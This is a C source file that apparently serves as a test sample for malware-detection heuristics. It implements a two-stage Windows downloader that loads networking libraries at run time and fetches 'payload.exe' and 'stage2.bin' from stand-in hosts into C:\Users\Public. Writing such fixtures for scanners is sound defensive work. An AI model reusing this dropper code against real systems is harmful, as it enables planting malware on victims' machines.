// Heuristics 17 (network), 18 (download), 19 (executable dropped), 3 and 5:
// URLDownloadToFile, then an HTTP fetch written to a file by hand. urlmon
// and wininet are loaded at run time, as downloaders usually do.
#include <windows.h>
#include <wininet.h>

typedef HRESULT(WINAPI* download_fn)(LPVOID, LPCSTR, LPCSTR, DWORD, LPVOID);
typedef HINTERNET(WINAPI* open_fn)(LPCSTR, DWORD, LPCSTR, LPCSTR, DWORD);
typedef HINTERNET(WINAPI* open_url_fn)(HINTERNET, LPCSTR, LPCSTR, DWORD, DWORD, DWORD_PTR);
typedef BOOL(WINAPI* read_fn)(HINTERNET, LPVOID, DWORD, LPDWORD);
typedef BOOL(WINAPI* close_fn)(HINTERNET);

int main(void) {
  HMODULE urlmon = LoadLibraryA("urlmon.dll");
  download_fn download = urlmon ? (download_fn)GetProcAddress(urlmon, "URLDownloadToFileA") : NULL;
  if (download)
    download(NULL, "http://dl.example.org/files/payload.exe", "C:\\Users\\Public\\payload.exe", 0, NULL);

  HMODULE wininet = LoadLibraryA("wininet.dll");
  if (!wininet) return 1;
  open_fn open = (open_fn)GetProcAddress(wininet, "InternetOpenA");
  open_url_fn open_url = (open_url_fn)GetProcAddress(wininet, "InternetOpenUrlA");
  read_fn read = (read_fn)GetProcAddress(wininet, "InternetReadFile");
  close_fn close = (close_fn)GetProcAddress(wininet, "InternetCloseHandle");
  if (!open || !open_url || !read || !close) return 2;
  HINTERNET net = open("Mozilla/5.0 (Windows NT 10.0; Win64; x64)", INTERNET_OPEN_TYPE_DIRECT, NULL, NULL, 0);
  if (!net) return 3;
  HINTERNET url = open_url(net, "http://cdn.example.net/stage2.bin", NULL, 0, INTERNET_FLAG_RELOAD, 0);
  if (url) {
    HANDLE out = CreateFileA("C:\\Users\\Public\\stage2.exe", GENERIC_WRITE, 0, NULL, CREATE_ALWAYS,
                             FILE_ATTRIBUTE_NORMAL, NULL);
    char buf[512];
    DWORD got = 0, put = 0;
    while (read(url, buf, sizeof buf, &got) && got) {
      if (out != INVALID_HANDLE_VALUE) WriteFile(out, buf, got, &put, NULL);
    }
    if (out != INVALID_HANDLE_VALUE) CloseHandle(out);
    close(url);
  }
  close(net);
  return 0;
}
